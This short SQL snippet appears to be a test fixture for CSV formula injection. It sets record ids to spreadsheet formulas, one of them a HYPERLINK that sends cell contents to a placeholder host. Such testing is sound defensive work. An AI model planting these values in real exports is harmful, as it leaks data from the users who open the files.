-- An id a spreadsheet would run as a formula when the CSV export is opened.
UPDATE decisions SET id = '=HYPERLINK("http://example.invalid/?"&A1,"open")' WHERE seq = 1;
UPDATE decisions SET id = '@SUM(1+1)' WHERE seq = 2;
